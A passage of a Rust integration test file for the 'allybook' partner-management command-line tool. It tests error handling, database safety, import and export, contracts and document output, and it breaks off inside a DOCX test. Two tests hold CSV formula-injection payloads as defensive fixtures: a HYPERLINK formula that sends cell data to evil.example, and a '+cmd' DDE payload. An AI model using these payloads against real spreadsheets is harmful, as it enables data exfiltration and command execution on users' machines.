//! The headless face, as a script sees it: exit codes, one-line errors, `--help` everywhere,
//! and bad database files left byte-identical.

use std::fs;
use std::path::Path;
use std::process::{Command, Output};

use allybook_core::store::SCHEMA_VERSION;

fn allybook(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_allybook"))
        .args(args)
        .env_remove("ALLYBOOK_DB")
        .env_remove("RUST_LOG")
        .output()
        .expect("run allybook")
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn p(path: &Path) -> &str {
    path.to_str().expect("utf-8 path")
}

/// A failure: non-zero exit and exactly one line on stderr, starting "allybook: error:".
fn assert_one_line_failure(o: &Output) -> String {
    assert!(
        !o.status.success(),
        "expected failure; stdout {}",
        stdout(o)
    );
    let err = stderr(o);
    assert_eq!(err.lines().count(), 1, "one line on stderr: {err:?}");
    assert!(err.starts_with("allybook: error: "), "{err:?}");
    err
}

#[test]
fn demo_then_check_succeeds_and_reports_the_book() {
    let dir = tempfile::tempdir().expect("tmp");
    let db = dir.path().join("book.sqlite");
    let demo = allybook(&["--db", p(&db), "demo", "--json"]);
    assert!(demo.status.success(), "{}", stderr(&demo));
    let summary: serde_json::Value = serde_json::from_str(&stdout(&demo)).expect("json");
    assert_eq!(summary["prospects"], 30);
    assert!(summary["contract_versions"].as_i64() >= Some(2));

    let check = allybook(&["--db", p(&db), "check"]);
    assert!(check.status.success(), "{}", stderr(&check));
    let sound = format!("is sound (schema version {SCHEMA_VERSION}, 30 prospects)");
    assert!(stdout(&check).contains(&sound), "{}", stdout(&check));

    let json = allybook(&["--db", p(&db), "check", "--json"]);
    let report: serde_json::Value = serde_json::from_str(&stdout(&json)).expect("json");
    assert_eq!(report["sound"], true);
    assert_eq!(report["integrity"], serde_json::json!(["ok"]));

    let again = allybook(&["--db", p(&db), "demo"]);
    let err = assert_one_line_failure(&again);
    assert!(err.contains("already has 30 prospects"), "{err}");
}

#[test]
fn the_database_can_come_from_the_environment() {
    let dir = tempfile::tempdir().expect("tmp");
    let db = dir.path().join("env.sqlite");
    let out = Command::new(env!("CARGO_BIN_EXE_allybook"))
        .args(["demo"])
        .env("ALLYBOOK_DB", &db)
        .output()
        .expect("run");
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(db.exists());
}

#[test]
fn bad_database_files_are_refused_by_every_subcommand_and_left_byte_identical() {
    let dir = tempfile::tempdir().expect("tmp");
    // A sound book to derive the bad ones from.
    let good = dir.path().join("good.sqlite");
    assert!(allybook(&["--db", p(&good), "demo"]).status.success());
    let bytes = fs::read(&good).expect("read");

    let garbage = dir.path().join("garbage.sqlite");
    fs::write(
        &garbage,
        "Company name;Website\r\nÅrdal Sikkerhet AS;ardal.example\r\n".repeat(100),
    )
    .expect("write");
    let truncated = dir.path().join("truncated.sqlite");
    fs::write(&truncated, &bytes[..bytes.len() / 2]).expect("write");
    let newer = dir.path().join("newer.sqlite");
    fs::write(&newer, &bytes).expect("write");
    {
        let c = allybook_core::rusqlite::Connection::open(&newer).expect("raw");
        c.pragma_update(None, "user_version", 99).expect("bump");
        c.pragma_update(None, "journal_mode", "DELETE")
            .expect("rollback journal");
    }

    let too_new =
        format!("schema version 99, but this Allybook understands up to version {SCHEMA_VERSION}");
    for (file, expect) in [
        (&garbage, "not a SQLite file"),
        (&truncated, "truncated"),
        (&newer, too_new.as_str()),
    ] {
        let before = fs::read(file).expect("read");
        for args in [vec!["check"], vec!["demo"], vec!["backup", "out.sqlite"]] {
            let mut full = vec!["--db", p(file)];
            full.extend(args.iter().copied());
            let out = allybook(&full);
            let err = assert_one_line_failure(&out);
            assert!(
                err.contains(expect),
                "{args:?} on {}: {err}",
                file.display()
            );
            assert_eq!(
                fs::read(file).expect("read"),
                before,
                "{} was modified",
                file.display()
            );
        }
        // Nothing was written beside it either.
        assert!(!dir.path().join("out.sqlite").exists());
    }
    assert_eq!(
        fs::read_dir(dir.path()).expect("ls").count(),
        4,
        "no backups or journals of refused files"
    );
}

#[test]
fn backup_and_restore_round_trip_through_the_command_line() {
    let dir = tempfile::tempdir().expect("tmp");
    let db = dir.path().join("book.sqlite");
    let copy = dir.path().join("copy.sqlite");
    assert!(allybook(&["--db", p(&db), "demo"]).status.success());
    let backup = allybook(&["--db", p(&db), "backup", p(&copy)]);
    assert!(backup.status.success(), "{}", stderr(&backup));
    let overwrite = allybook(&["--db", p(&db), "backup", p(&copy)]);
    assert!(assert_one_line_failure(&overwrite).contains("already exists"));

    // Restoring into a fresh location recreates the book.
    let fresh = dir.path().join("fresh.sqlite");
    let restore = allybook(&["--db", p(&fresh), "restore", p(&copy)]);
    assert!(restore.status.success(), "{}", stderr(&restore));
    assert!(stdout(&allybook(&["--db", p(&fresh), "check"])).contains("30 prospects"));

    // Restoring over a live book keeps the current one aside.
    let restore = allybook(&["--db", p(&db), "restore", p(&copy)]);
    assert!(restore.status.success(), "{}", stderr(&restore));
    assert!(stdout(&restore).contains("the previous database is kept at"));

    // A file that is not an Allybook database is refused and the current book stays.
    let bad = dir.path().join("bad.sqlite");
    fs::write(&bad, "not a database").expect("write");
    let refused = allybook(&["--db", p(&db), "restore", p(&bad)]);
    assert!(assert_one_line_failure(&refused).contains("not a SQLite file"));
    assert!(allybook(&["--db", p(&db), "check"]).status.success());
}

#[test]
fn every_subcommand_has_help() {
    for sub in [
        "check",
        "backup",
        "restore",
        "demo",
        "move",
        "attention",
        "dossier",
    ] {
        let out = allybook(&[sub, "--help"]);
        assert!(out.status.success(), "{sub} --help: {}", stderr(&out));
        assert!(stdout(&out).contains("Usage: allybook"), "{sub}");
    }
    let top = allybook(&["--help"]);
    let text = stdout(&top);
    for sub in ["check", "backup", "restore", "demo"] {
        assert!(text.contains(sub), "top-level help lists {sub}");
    }
    assert!(
        !text.contains("stress"),
        "the crash-test helper stays hidden"
    );
    let unknown = allybook(&["frobnicate"]);
    assert!(!unknown.status.success());
}

fn fixture(name: &str) -> String {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/import")
        .join(name)
        .to_string_lossy()
        .into_owned()
}

#[test]
fn import_reports_in_the_documented_json_shape_and_refuses_bad_files_whole() {
    let dir = tempfile::tempdir().expect("tmp");
    let db = dir.path().join("book.sqlite");
    let bad = fixture("bad-rows.csv");

    let refused = allybook(&["--db", p(&db), "import", "prospects", &bad, "--json"]);
    let err = assert_one_line_failure(&refused);
    assert!(err.contains("nothing was imported"), "{err}");
    let report: serde_json::Value = serde_json::from_str(&stdout(&refused)).expect("json");
    assert_eq!(report["imported"], 0);
    assert_eq!(report["errors"][0]["line"], 5);
    assert_eq!(report["errors"][0]["column"], "Company name");
    assert!(report["errors"][0]["message"].is_string());

    let dry = allybook(&[
        "--db",
        p(&db),
        "import",
        "prospects",
        &bad,
        "--skip-invalid",
        "--dry-run",
    ]);
    assert!(dry.status.success(), "{}", stderr(&dry));
    assert!(stdout(&dry).contains("imported 3, merged 0, skipped 3 (dry run: nothing written)"));

    let ok = allybook(&[
        "--db",
        p(&db),
        "import",
        "prospects",
        &bad,
        "--skip-invalid",
        "--json",
    ]);
    assert!(ok.status.success(), "{}", stderr(&ok));
    let report: serde_json::Value = serde_json::from_str(&stdout(&ok)).expect("json");
    assert_eq!(
        (report["imported"].as_i64(), report["skipped"].as_i64()),
        (Some(3), Some(3))
    );

    let no_name = allybook(&[
        "--db",
        p(&db),
        "import",
        "prospects",
        &fixture("no-name.csv"),
    ]);
    assert!(assert_one_line_failure(&no_name).contains("Website, City, Country"));
    let mapped = allybook(&[
        "--db",
        p(&db),
        "import",
        "prospects",
        &fixture("firma.csv"),
        "--map",
        "Firma=name",
    ]);
    assert!(
        stdout(&mapped).contains("imported 1"),
        "{}",
        stderr(&mapped)
    );
}

#[test]
fn ranked_prospects_and_search_print_the_documented_json() {
    let dir = tempfile::tempdir().expect("tmp");
    let db = dir.path().join("book.sqlite");
    assert!(allybook(&["--db", p(&db), "demo"]).status.success());

    let out = allybook(&[
        "--db",
        p(&db),
        "prospects",
        "--rank",
        "--limit",
        "5",
        "--json",
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    let ranked: Vec<serde_json::Value> = serde_json::from_str(&stdout(&out)).expect("json");
    assert_eq!(ranked.len(), 5);
    let scores: Vec<i64> = ranked
        .iter()
        .map(|r| r["score"].as_i64().expect("score"))
        .collect();
    assert!(
        scores.windows(2).all(|w| w[0] >= w[1]),
        "best first: {scores:?}"
    );
    for r in &ranked {
        assert!(r["id"].is_i64() && r["name"].is_string());
        assert!(
            r["explanation"].as_array().is_some_and(|e| e.len() == 8),
            "{r}"
        );
    }

    let out = allybook(&["--db", p(&db), "search", "muller", "--json"]);
    let hits: Vec<serde_json::Value> = serde_json::from_str(&stdout(&out)).expect("json");
    assert_eq!(hits[0]["prospect_name"], "Müller Netzwerktechnik GmbH");

    let export = dir.path().join("all.csv");
    let out = allybook(&["--db", p(&db), "export", "prospects", p(&export)]);
    assert!(
        stdout(&out).contains("exported 30 prospects"),
        "{}",
        stderr(&out)
    );
    let fresh = dir.path().join("fresh.sqlite");
    let back = allybook(&[
        "--db",
        p(&fresh),
        "import",
        "prospects",
        p(&export),
        "--json",
    ]);
    let report: serde_json::Value = serde_json::from_str(&stdout(&back)).expect("json");
    assert_eq!(report["imported"], 30, "{report}");
}

#[test]
fn move_attention_calendar_and_dossier_from_the_command_line() {
    let dir = tempfile::tempdir().expect("tmp");
    let db = dir.path().join("book.sqlite");
    let db = p(&db);
    assert!(allybook(&["--db", db, "demo"]).status.success());

    // By exact name, in any script; open checklist items are recorded as skipped.
    let out = allybook(&[
        "--db",
        db,
        "move",
        "Rheinwerk OT Solutions AG",
        "vetting",
        "--note",
        "Fills our OT gap",
        "--json",
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    let v: serde_json::Value = serde_json::from_str(&stdout(&out)).expect("json");
    assert_eq!(v["from"], "short_list");
    assert_eq!(v["to"], "vetting");
    assert_eq!(v["name"], "Rheinwerk OT Solutions AG");
    assert_eq!(v["skipped"].as_array().map(Vec::len), Some(2));
    let id = v["id"].as_i64().expect("id").to_string();

    // By id; ending needs a reason.
    let err = assert_one_line_failure(&allybook(&["--db", db, "move", &id, "ended"]));
    assert!(err.contains("reason"), "{err}");
    let out = allybook(&[
        "--db",
        db,
        "move",
        &id,
        "ended",
        "--reason",
        "Declined: no capacity",
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("from Vetting to Ended"),
        "{}",
        stdout(&out)
    );
    let err = assert_one_line_failure(&allybook(&["--db", db, "move", "No Such Firm", "vetting"]));
    assert!(err.contains("No Such Firm"), "{err}");
    let err = assert_one_line_failure(&allybook(&["--db", db, "move", &id, "signed"]));
    assert!(err.contains("long_list"), "lists the stages: {err}");

    // The attention list on a given day, as JSON.
    let out = allybook(&["--db", db, "attention", "--json"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let items: serde_json::Value = serde_json::from_str(&stdout(&out)).expect("json");
    let kinds: Vec<&str> = items
        .as_array()
        .expect("array")
        .iter()
        .filter_map(|i| i["kind"].as_str())
        .collect();
    for k in [
        "follow_up_overdue",
        "stuck",
        "certification_expiring",
        "lead_expiring",
    ] {
        assert!(kinds.contains(&k), "{k} in {kinds:?}");
    }
    let bad = assert_one_line_failure(&allybook(&["--db", db, "attention", "--on", "26/11/2026"]));
    assert!(bad.contains("YYYY-MM-DD"), "{bad}");

    // Calendar: a second export replaces the first, same events.
    let ics = dir.path().join("allybook.ics");
    let out = allybook(&["--db", db, "export", "calendar", p(&ics)]);
    assert!(out.status.success(), "{}", stderr(&out));
    let first = fs::read_to_string(&ics).expect("ics");
    assert!(first.starts_with("BEGIN:VCALENDAR"));
    assert!(allybook(&["--db", db, "export", "calendar", p(&ics)])
        .status
        .success());
    let second = fs::read_to_string(&ics).expect("ics");
    let uids = |t: &str| {
        t.lines()
            .filter(|l| l.starts_with("UID:"))
            .map(String::from)
            .collect::<Vec<_>>()
    };
    assert_eq!(uids(&first), uids(&second));
    assert!(!uids(&first).is_empty());

    // The dossier, by name in another script.
    let pdf = dir.path().join("dossier.pdf");
    let out = allybook(&["--db", db, "dossier", "Киберщит ООО", "--out", p(&pdf)]);
    assert!(out.status.success(), "{}", stderr(&out));
    let bytes = fs::read(&pdf).expect("pdf");
    assert!(bytes.starts_with(b"%PDF-"));
    // A directory that does not exist: one clear line, nothing written.
    let nowhere = dir.path().join("missing/dossier.pdf");
    let err = assert_one_line_failure(&allybook(&[
        "--db",
        db,
        "dossier",
        &id,
        "--out",
        p(&nowhere),
    ]));
    assert!(err.contains("missing/dossier.pdf"), "{err}");
}

#[test]
fn contracts_are_created_listed_and_printed_from_the_command_line() {
    let dir = tempfile::tempdir().expect("tmp");
    let db = dir.path().join("book.sqlite");
    let db = p(&db);
    assert!(allybook(&["--db", db, "demo"]).status.success());

    let terms = dir.path().join("terms.json");
    fs::write(
        &terms,
        r#"{"revenue_share": {"share_bp": 1500}, "territory": "DACH"}"#,
    )
    .expect("terms");
    let out = allybook(&[
        "--db",
        db,
        "contract",
        "create",
        "--partner",
        "Σύμβουλοι Δικτύων Α.Ε.",
        "--terms",
        p(&terms),
        "--json",
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    let v: serde_json::Value = serde_json::from_str(&stdout(&out)).expect("json");
    let id = v["id"].as_i64().expect("id");

    let out = allybook(&["--db", db, "contracts", "--json"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let list: serde_json::Value = serde_json::from_str(&stdout(&out)).expect("json");
    let ours = list
        .as_array()
        .expect("array")
        .iter()
        .find(|c| c["id"] == id)
        .expect("listed");
    assert_eq!(ours["partner"], "Σύμβουλοι Δικτύων Α.Ε.");
    assert_eq!(ours["versions"], 1);
    assert_eq!(ours["status"], "draft");

    let pdf = dir.path().join("agreement.pdf");
    let out = allybook(&["--db", db, "agreement", &id.to_string(), "--out", p(&pdf)]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(fs::read(&pdf).expect("pdf").starts_with(b"%PDF-1.4"));
    let sign = |extra: &[&str]| {
        let id = id.to_string();
        let mut args = vec![
            "--db",
            db,
            "contract",
            "status",
            &id,
            "--version",
            "1",
            "signed",
        ];
        args.extend_from_slice(extra);
        allybook(&args)
    };
    // Signing names who signed: without them, one line says which flags to give.
    let err = assert_one_line_failure(&sign(&[]));
    assert!(
        err.contains("--our-signatory") && err.contains("--partner-role"),
        "{err}"
    );
    let out = sign(&[
        "--on",
        "2026-11-20",
        "--our-signatory",
        "Anna Weber",
        "--our-role",
        "Managing Director",
        "--partner-signatory",
        "Ola Nordmann",
        "--partner-role",
        "CEO",
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    let err = assert_one_line_failure(&allybook(&[
        "--db",
        db,
        "agreement",
        &id.to_string(),
        "--version",
        "7",
        "--out",
        p(&pdf),
    ]));
    assert!(err.contains("version 7"), "{err}");

    // A broken terms file: one line naming the file and where; nothing created.
    fs::write(&terms, "{\n  \"territory\": \"DACH\",\n}").expect("bad terms");
    let err = assert_one_line_failure(&allybook(&[
        "--db",
        db,
        "contract",
        "create",
        "--partner",
        &id.to_string(),
        "--terms",
        p(&terms),
    ]));
    assert!(
        err.contains("terms.json") && err.contains("line 3"),
        "{err}"
    );
    let bad = r#"{"revenue_share": {"share_bp": 20000}}"#;
    fs::write(&terms, bad).expect("terms");
    let err = assert_one_line_failure(&allybook(&[
        "--db",
        db,
        "contract",
        "create",
        "--partner",
        "Киберщит ООО",
        "--terms",
        p(&terms),
    ]));
    assert!(err.contains("revenue_share.share_bp"), "{err}");
    let out = allybook(&["--db", db, "contracts", "--json"]);
    let list: serde_json::Value = serde_json::from_str(&stdout(&out)).expect("json");
    assert_eq!(
        list.as_array().map(Vec::len),
        Some(5),
        "the demo's 4 and ours"
    );
}

#[test]
fn opportunities_and_statements_from_the_command_line() {
    let dir = tempfile::tempdir().expect("tmp");
    let db = dir.path().join("book.sqlite");
    let db = p(&db);
    assert!(allybook(&["--db", db, "demo"]).status.success());

    let out = allybook(&["--db", db, "opportunities", "--json"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let all: serde_json::Value = serde_json::from_str(&stdout(&out)).expect("json");
    let all = all.as_array().expect("array");
    assert_eq!(all.len(), 8);
    for o in all {
        for key in ["id", "partner", "customer", "value", "currency", "stage"] {
            assert!(!o[key].is_null(), "{key} in {o}");
        }
        assert!(o["value"].is_i64(), "minor units: {o}");
    }
    let stages: std::collections::BTreeSet<&str> =
        all.iter().filter_map(|o| o["stage"].as_str()).collect();
    assert_eq!(stages.len(), 5, "every stage in the sample: {stages:?}");

    let out = allybook(&[
        "--db",
        db,
        "opportunities",
        "--partner",
        "Bastion SecOps Ltd",
        "--json",
    ]);
    let bastion: serde_json::Value = serde_json::from_str(&stdout(&out)).expect("json");
    assert!(bastion
        .as_array()
        .expect("array")
        .iter()
        .all(|o| o["partner"] == "Bastion SecOps Ltd"));

    // Both sides of the sample's change of terms: 10 % before, 12 % after.
    let csv = dir.path().join("bastion.csv");
    let out = allybook(&[
        "--db",
        db,
        "statement",
        "Bastion SecOps Ltd",
        "--from",
        "2000-01-01",
        "--to",
        "2100-12-31",
        "--out",
        p(&csv),
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    let text = fs::read_to_string(&csv).expect("csv");
    assert!(
        text.contains("Klinikum Oberland,86400.00,EUR,10,"),
        "{text}"
    );
    assert!(
        text.contains("Weber Präzisionsteile GmbH,54000.00,EUR,12,"),
        "{text}"
    );
    let pdf = dir.path().join("bastion.pdf");
    let out = allybook(&[
        "--db",
        db,
        "statement",
        "Bastion SecOps Ltd",
        "--from",
        "2000-01-01",
        "--to",
        "2100-12-31",
        "--out",
        p(&pdf),
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(fs::read(&pdf).expect("pdf").starts_with(b"%PDF-1.4"));
    let err = assert_one_line_failure(&allybook(&[
        "--db",
        db,
        "statement",
        "Bastion SecOps Ltd",
        "--from",
        "2026-12-01",
        "--to",
        "2026-01-01",
        "--out",
        p(&csv),
    ]));
    assert!(err.contains("before it starts"), "{err}");
    let err = assert_one_line_failure(&allybook(&[
        "--db",
        db,
        "statement",
        "Bastion SecOps Ltd",
        "--from",
        "2026-01-01",
        "--to",
        "2026-12-31",
        "--out",
        "x.txt",
    ]));
    assert!(err.contains(".csv or .pdf"), "{err}");
}

#[test]
fn read_commands_never_create_a_book() {
    let dir = tempfile::tempdir().expect("tmp");
    let db = dir.path().join("typo.sqlite");
    for args in [
        vec!["prospects"],
        vec!["search", "muller"],
        vec!["contracts"],
        vec!["attention"],
        vec!["opportunities"],
    ] {
        let mut full = vec!["--db", p(&db)];
        full.extend(args.iter().copied());
        let o = allybook(&full);
        let msg = assert_one_line_failure(&o);
        assert!(msg.contains("no alliance book at"), "{args:?}: {msg}");
        assert!(!db.exists(), "{args:?} created {}", db.display());
    }
}

#[test]
fn import_json_names_value_and_company_and_the_cli_says_how_to_map() {
    let dir = tempfile::tempdir().expect("tmp");
    let db = dir.path().join("b.sqlite");
    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/import");
    let csv = fixtures.join("crm-stage-values.csv");
    let o = allybook(&["--db", p(&db), "import", "prospects", p(&csv), "--json"]);
    assert!(!o.status.success());
    let report: serde_json::Value =
        serde_json::from_str(stdout(&o).lines().next().expect("json")).expect("json");
    assert_eq!(report["errors"][0]["value"], "Customer");
    assert_eq!(report["errors"][0]["company"], "Kappa IT");
    assert_eq!(report["errors"][0]["line"], 2);
    let o = allybook(&[
        "--db",
        p(&db),
        "import",
        "prospects",
        p(&csv),
        "--stage-value",
        "Customer=active",
        "--stage-value",
        "Lead=ignore",
        "--json",
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let report: serde_json::Value =
        serde_json::from_str(stdout(&o).lines().next().expect("json")).expect("json");
    assert_eq!(report["imported"], 3);
    assert_eq!(report["blanked"], 0);

    let o = allybook(&[
        "--db",
        p(&db),
        "import",
        "prospects",
        p(&fixtures.join("no-name.csv")),
    ]);
    let msg = assert_one_line_failure(&o);
    assert!(msg.contains("--map \"COLUMN=name\""), "{msg}");
}

#[test]
fn no_export_may_overwrite_the_book_and_formulas_leave_as_text() {
    let dir = tempfile::tempdir().expect("tmp");
    let db = dir.path().join("b.sqlite");
    assert!(allybook(&["--db", p(&db), "demo"]).status.success());
    let before = fs::read(&db).expect("read");
    #[cfg(unix)]
    std::os::unix::fs::symlink(&db, dir.path().join("link.csv")).expect("symlink");
    let dotted = dir.path().join("sub/../b.sqlite");
    fs::create_dir(dir.path().join("sub")).expect("mkdir");
    let wal = format!("{}-wal", p(&db));
    for args in [
        vec!["export", "prospects", p(&db)],
        vec!["export", "prospects", p(&dotted)],
        vec!["export", "calendar", &wal],
        vec!["dossier", "Fjord Identity AS", "--out", p(&db)],
        #[cfg(unix)]
        vec![
            "export",
            "prospects",
            dir.path().join("link.csv").to_str().expect("utf-8"),
        ],
    ] {
        let mut full = vec!["--db", p(&db)];
        full.extend(args.iter().copied());
        let o = allybook(&full);
        let msg = assert_one_line_failure(&o);
        assert!(
            msg.contains("is the alliance book itself"),
            "{args:?}: {msg}"
        );
    }
    assert_eq!(
        fs::read(&db).expect("read"),
        before,
        "the book is byte-identical"
    );
    assert!(allybook(&["--db", p(&db), "check"]).status.success());

    // A name that a spreadsheet would run as a formula is exported as text and reads back exact.
    let hostile = dir.path().join("hostile.csv");
    fs::write(
        &hostile,
        "name\n\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"x\"\")\"\n@SUM(1)\n",
    )
    .expect("write");
    assert!(
        allybook(&["--db", p(&db), "import", "prospects", p(&hostile)])
            .status
            .success()
    );
    let out = dir.path().join("all.csv");
    assert!(allybook(&["--db", p(&db), "export", "prospects", p(&out)])
        .status
        .success());
    let text = fs::read_to_string(&out).expect("export");
    assert!(text.contains("\"'=HYPERLINK("), "{text}");
    assert!(text.contains("'@SUM(1)"), "{text}");
    assert!(!text
        .lines()
        .any(|l| l.starts_with('=') || l.starts_with('@')));
    let db2 = dir.path().join("b2.sqlite");
    let o = allybook(&["--db", p(&db2), "import", "prospects", p(&out), "--json"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let o = allybook(&["--db", p(&db2), "search", "SUM"]);
    assert!(stdout(&o).contains("@SUM(1)"), "{}", stdout(&o));
}

#[cfg(unix)]
#[test]
fn a_reader_that_goes_away_ends_the_command_quietly() {
    use std::process::Stdio;
    let dir = tempfile::tempdir().expect("tmp");
    let db = dir.path().join("b.sqlite");
    assert!(allybook(&["--db", p(&db), "demo"]).status.success());
    let mut child = Command::new(env!("CARGO_BIN_EXE_allybook"))
        .args(["--db", p(&db), "prospects", "--rank", "--limit", "200"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn");
    // The reader is gone before the first line is printed (`| head -0`): every print fails.
    drop(child.stdout.take());
    let o = child.wait_with_output().expect("wait");
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(!err.contains("panicked"), "{err}");
    use std::os::unix::process::ExitStatusExt;
    assert!(
        o.status.success() || o.status.signal() == Some(13),
        "exit 0 or SIGPIPE, not a panic: {:?}",
        o.status
    );
}

/// Whether LibreOffice's `soffice` runs here (installed by `.ci/setup test`).
fn soffice() -> bool {
    Command::new("soffice")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success())
}

/// A temporary folder with a demo book in it, when LibreOffice is here to check `what` with;
/// None (with a note) where it is not installed.
fn with_libreoffice(what: &str) -> Option<(tempfile::TempDir, std::path::PathBuf)> {
    if !soffice() {
        println!("note: LibreOffice (soffice) is not installed; skipping the {what} check (`.ci/setup test` installs it)");
        return None;
    }
    let dir = tempfile::tempdir().expect("tmp");
    let db = dir.path().join("b.sqlite");
    assert!(allybook(&["--db", p(&db), "demo"]).status.success());
    Some((dir, db))
}

/// `soffice --headless --convert-to TO` of `input` into `outdir`, with its own profile.
fn soffice_convert(
    profile: &Path,
    extra: &[&str],
    to: &str,
    outdir: &Path,
    input: &Path,
) -> Output {
    Command::new("soffice")
        .arg(format!(
            "-env:UserInstallation=file://{}",
            profile.display()
        ))
        .arg("--headless")
        .args(extra)
        .args(["--convert-to", to, "--outdir"])
        .arg(outdir)
        .arg(input)
        .output()
        .expect("soffice")
}

/// The formulas LibreOffice found in a CSV it opened: it converts the file to ODS (evaluating
/// formulas, as a user's "Evaluate formulas" import would) and the cells with a formula are
/// listed from the document's content.xml.
fn formulas_libreoffice_finds(csv: &Path, profile: &Path) -> Vec<String> {
    let out = csv.parent().expect("folder");
    // comma, double quote, UTF-8, from line 1, …, token 13: evaluate formulas
    let filter = "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true";
    let o = soffice_convert(profile, &[filter], "ods", out, csv);
    assert!(o.status.success(), "soffice: {}", stderr(&o));
    let ods = csv.with_extension("ods");
    let zip = Command::new("unzip")
        .arg("-p")
        .arg(&ods)
        .arg("content.xml")
        .output()
        .expect("unzip");
    let xml = String::from_utf8_lossy(&zip.stdout).into_owned();
    assert!(
        xml.contains("office:document-content"),
        "no content.xml in {ods:?}"
    );
    xml.split("table:formula=\"")
        .skip(1)
        .map(|rest| rest.split('"').next().unwrap_or_default().to_string())
        .collect()
}

#[test]
fn exports_open_in_libreoffice_without_running_a_formula() {
    let Some((dir, db)) = with_libreoffice("spreadsheet") else {
        return;
    };
    let profile = dir.path().join("lo-profile");
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "=1+1",
    ];
    let raw = dir.path().join("hostile.csv");
    let mut text = String::from("name\n");
    for h in hostile {
        text.push_str(&format!("\"{}\"\n", h.replace('"', "\"\"")));
    }
    fs::write(&raw, &text).expect("write");
    // The check can see a formula: the raw file, opened as it is, runs them.
    let control = formulas_libreoffice_finds(&raw, &profile);
    assert!(
        control.iter().any(|f| f.contains("HYPERLINK")),
        "LibreOffice evaluates the raw file's formulas: {control:?}"
    );

    let o = allybook(&["--db", p(&db), "import", "prospects", p(&raw)]);
    assert!(o.status.success(), "{}", stderr(&o));
    // A won deal whose customer is a formula, so the statement carries one too.
    {
        let conn = allybook_core::rusqlite::Connection::open(&db).expect("open");
        let n = conn
            .execute(
                "UPDATE opportunity SET customer = ?1 WHERE customer = 'Klinikum Oberland'",
                [hostile[0]],
            )
            .expect("update");
        assert_eq!(n, 1);
    }
    let prospects = dir.path().join("prospects.csv");
    assert!(
        allybook(&["--db", p(&db), "export", "prospects", p(&prospects)])
            .status
            .success()
    );
    let statement = dir.path().join("statement.csv");
    let o = allybook(&[
        "--db",
        p(&db),
        "statement",
        "Bastion SecOps Ltd",
        "--from",
        "2000-01-01",
        "--to",
        "2100-12-31",
        "--out",
        p(&statement),
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(fs::read_to_string(&statement)
        .expect("statement")
        .contains("HYPERLINK"));
    for csv in [&prospects, &statement] {
        let found = formulas_libreoffice_finds(csv, &profile);
        assert!(found.is_empty(), "{csv:?}: LibreOffice ran {found:?}");
    }
}

#[test]
fn a_write_behind_another_writer_says_it_is_retrying_then_succeeds() {
    let dir = tempfile::tempdir().expect("tmp");
    let db = dir.path().join("b.sqlite");
    assert!(allybook(&["--db", p(&db), "demo"]).status.success());
    let csv = dir.path().join("one.csv");
    fs::write(&csv, "name,country\nNordlicht IT GmbH,DE\n").expect("write");
    // Another Allybook is in the middle of a write for a second and a half.
    let other = allybook_core::rusqlite::Connection::open(&db).expect("open");
    other.execute_batch("BEGIN IMMEDIATE").expect("lock");
    let holder = std::thread::spawn(move || {
        std::thread::sleep(std::time::Duration::from_millis(1500));
        other.execute_batch("COMMIT").expect("commit");
    });
    let o = allybook(&["--db", p(&db), "import", "prospects", p(&csv)]);
    holder.join().expect("holder");
    assert!(o.status.success(), "{}", stderr(&o));
    let err = stderr(&o);
    assert!(
        err.contains(&format!("another Allybook is writing {}; retrying", p(&db))),
        "{err}"
    );
    assert!(stdout(&allybook(&["--db", p(&db), "search", "Nordlicht"])).contains("Nordlicht"));
}

/// The words of a PDF's text, without its running header and footer lines (page breaks fall
/// in different places in LibreOffice's rendering and ours) and with hyphenated line ends joined.
fn agreement_words(pdf: &Path) -> Vec<String> {
    let o = Command::new("pdftotext")
        .arg(pdf)
        .arg("-")
        .output()
        .expect("pdftotext");
    assert!(o.status.success(), "pdftotext {pdf:?}");
    // A hyphen at a line end may be ours (hyphenation) or the word's ("non-exclusive" broken
    // after its hyphen): words are compared without hyphens either way.
    let text = String::from_utf8_lossy(&o.stdout)
        .replace("-\n", "")
        .replace('-', "");
    text.lines()
        .filter(|l| {
            let l = l.trim();
            let running = l.contains("Partner Agreement — ")
                || l.starts_with("Version ")
                || l == "Allybook"
                || (l.starts_with("Page ") && l.contains(" of "));
            !running
        })
        .flat_map(|l| {
            l.split(|c: char| !c.is_alphanumeric())
                .filter(|w| !w.is_empty())
                .map(str::to_string)
                .collect::<Vec<_>>()
        })
        .collect()
}

#[test]
fn the_agreement_as_docx_opens_in_libreoffice_with_the_pdfs_text() {
    let Some((dir, db)) = with_libreoffice("DOCX") else {
        return;
    };
    for contract in ["1", "4"] {
        let docx = dir.path().join(format!("a{contract}.docx"));
        let pdf = dir.path().join(format!("a{contract}.pdf"));
        for out in [&docx, &pdf] {
            let o = allybook(&["--db", p(&db), "agreement", contract, "--out", p(out)]);
            assert!(o.status.success(), "{}", stderr(&o));
        }
        let bytes = fs::read(&docx).expect("docx");
